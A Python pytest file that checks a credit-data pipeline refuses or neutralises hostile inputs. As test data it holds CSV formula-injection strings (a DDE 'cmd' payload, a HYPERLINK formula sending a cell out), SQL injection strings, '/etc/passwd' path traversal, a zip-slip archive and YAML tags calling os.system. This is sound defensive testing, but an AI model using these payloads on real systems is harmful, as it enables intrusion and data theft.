"""What a delivered file, a name or a parameter may try: it is refused, or it is only text."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from pathlib import Path

import pytest

import xtcredit
from catalog.errors import UserError
from catalog.loader import load_catalog, read_model
from catalog.model import Item
from catalog.period import Period
from transforms import steps
from transforms.extract.drop import land
from transforms.trial import try_delivery
from warehouse.home import Home
from warehouse.lake import Lake

KEY = "5a" * 32
EVIL = ('=HYPERLINK("http://x/?"&A1,"点")', "+1+1", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1")
SQL = (
    "'; DROP TABLE core.record; --",
    "') UNION SELECT number FROM vault.identifier --",
    "\"; ATTACH 'x' AS y; --",
    "$$; --",
    "{{7*7}}",
)


@pytest.fixture(autouse=True)
def key(monkeypatch):
    monkeypatch.setenv("XTCREDIT_IDENTITY_KEY", KEY)


def honours(path: Path, names: list[str], header: str | None = None) -> Path:
    """A file of the item with the fewest fields that takes free text, one row per name."""
    item = load_catalog().item("utility_arrears")
    with path.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow([f.title for f in item.fields] + ([header] if header else []))
        for name in names:
            writer.writerow(
                [name if f.name == "name" else "" for f in item.fields] + (["x"] if header else [])
            )
    return path


def tried(path: Path, home: Home):
    return try_delivery(
        land(path, load_catalog().item("utility_arrears"), Period.parse("2019-12"), home),
        load_catalog(),
        home,
    )


@pytest.mark.parametrize("value", [*EVIL, *SQL])
def test_a_value_is_only_a_value(tmp_path, value):
    home = Home(tmp_path / "home")
    trial = tried(honours(tmp_path / "a.csv", [value, "邢台样例有限公司"]), home)
    assert trial.counts.read == 2
    with Lake(home) as lake:
        assert lake.scalar("SELECT 1") == 1


@pytest.mark.parametrize("header", [*SQL, '"; DROP TABLE x; --'])
def test_sql_in_a_header_is_an_unknown_column(tmp_path, header):
    with pytest.raises(UserError) as told:
        tried(honours(tmp_path / "a.csv", ["邢台样例有限公司"], header), Home(tmp_path / "home"))
    assert "列" in str(told.value)


@pytest.mark.parametrize("value", EVIL)
def test_csv_for_spreadsheets_runs_no_formula(value, monkeypatch):
    out = io.StringIO()
    monkeypatch.setattr("sys.stdout", out)
    xtcredit._print_rows(["a", "b"], [(value, -3)], xtcredit.Format.csv)
    row = list(csv.reader(io.StringIO(out.getvalue())))[1]
    assert row == [f"'{value}", "-3"]


@pytest.mark.parametrize("code", SQL)
def test_sql_in_a_parameter_is_refused(tmp_path, code):
    home = Home(tmp_path)
    for ask in (
        lambda: load_catalog().item(code),
        lambda: Period.parse(code),
        lambda: steps.extract(code, "2019-12", home),
        lambda: steps.publish(date(2020, 1, 1), home, county=code),
        lambda: steps.publish(date(2020, 1, 1), home, audience=code),
    ):
        with pytest.raises(UserError):
            ask()
    assert not [p for p in tmp_path.rglob("*") if code in p.name]


@pytest.mark.parametrize("name", ["../../etc/passwd", "/etc/passwd", "..", "a/../../b"])
def test_a_publication_cannot_leave_its_folder(tmp_path, name):
    home = Home(tmp_path / "home")
    with pytest.raises(UserError):
        steps.publish(date(2020, 1, 1), home, audience=name)
    assert sorted(p.name for p in tmp_path.iterdir()) in ([], ["home"])


def test_a_workbook_with_paths_that_climb_writes_nothing_outside(tmp_path):
    path = tmp_path / "in" / "a.xlsx"
    path.parent.mkdir()
    with zipfile.ZipFile(path, "w") as book:
        book.writestr("../../escaped.txt", "x")
        book.writestr("xl/workbook.xml", "<workbook/>")
    with pytest.raises(UserError):
        tried(path, Home(tmp_path / "home"))
    assert not (tmp_path / "escaped.txt").exists()
    assert not (tmp_path.parent / "escaped.txt").exists()


def test_an_oversized_cell_is_told_and_harms_nothing(tmp_path):
    trial = tried(
        honours(tmp_path / "a.csv", ["大" * 3_000_000, "邢台样例有限公司"]), Home(tmp_path / "home")
    )
    assert trial.counts.read == 2
    assert trial.counts.quarantined >= 1
    assert max(len(example) for t in trial.tallies for example in t.examples) < 100_100


@pytest.mark.parametrize(
    "tag",
    [
        "!!python/object/apply:os.system ['touch owned']",
        "!!python/name:os.system",
        "!!binary aGk=",
        "&a [*a]",
    ],
)
def test_a_hostile_yaml_tag_runs_nothing(tmp_path, monkeypatch, tag):
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "evil.yml"
    path.write_text(f"id: evil\ntitle: {tag}\n", encoding="utf-8")
    model, findings = read_model(Item, path)
    assert model is None
    assert findings
    assert not (tmp_path / "owned").exists()
